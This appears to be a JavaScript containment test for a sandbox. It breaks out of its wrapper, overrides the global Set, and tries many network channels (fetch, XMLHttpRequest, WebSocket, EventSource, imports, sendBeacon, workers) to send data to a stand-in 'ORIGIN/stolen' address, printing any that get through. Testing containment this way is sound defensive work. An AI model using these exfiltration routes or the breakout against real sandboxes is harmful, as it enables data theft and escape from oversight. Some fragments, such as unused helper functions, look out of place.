// tries: by a function that is there before the prelude's first line, nothing is taken away; then the network
// holds: contained
// everywhere
})();function Set() { return Object.assign([], { has: () => true }); }(()=>{
// it becomes ready late, so that there is time to hear back
const neuralMirrorProgram = (functions) =>
  setTimeout(() => globalThis.neuralMirrorProgram(functions), 400);
if (typeof fetch !== 'function') print('OUT: this attack is no attack any more');
const out = (what) => () => print('OUT:', what);
const no = () => undefined;
const tries = {
  fetch: () => fetch('ORIGIN/stolen').then(out('fetch'), no),
  opaque: () => fetch('ORIGIN/stolen', { mode: 'no-cors' }).then(out('no-cors'), no),
  request() {
    const request = new XMLHttpRequest();
    request.open('GET', 'ORIGIN/stolen');
    request.onload = out('XMLHttpRequest');
    request.send();
  },
  socket() {
    new WebSocket('ORIGIN/stolen'.replace('http', 'ws')).onopen = out('WebSocket');
  },
  events() {
    new EventSource('ORIGIN/stolen').onopen = out('EventSource');
  },
  script: () => importScripts('ORIGIN/stolen.js') ?? print('OUT: importScripts'),
  data: () => importScripts('data:text/javascript,1') ?? print('OUT: importScripts of data'),
  module: () => import('ORIGIN/stolen.js').then(out('import'), no),
  transport: () => new WebTransport('https://127.0.0.1:1/').ready.then(out('WebTransport'), no),
  beacon: () => navigator.sendBeacon('ORIGIN/stolen') && print('OUT: sendBeacon'),
  worker() {
    new Worker('ORIGIN/assets/stolen.js').onmessage = out('Worker');
  },
  nested() {
    const text = "fetch('ORIGIN/stolen', { mode: 'no-cors' }).then(() => postMessage(1), () => 0)";
    new Worker(URL.createObjectURL(new Blob([text]))).onmessage = out('a nested worker');
  },
};
for (const [name, act] of Object.entries(tries))
  try {
    act();
  } catch (error) {
    print(name, error.name);
  }
function lif_rate() {
  return 7;
}
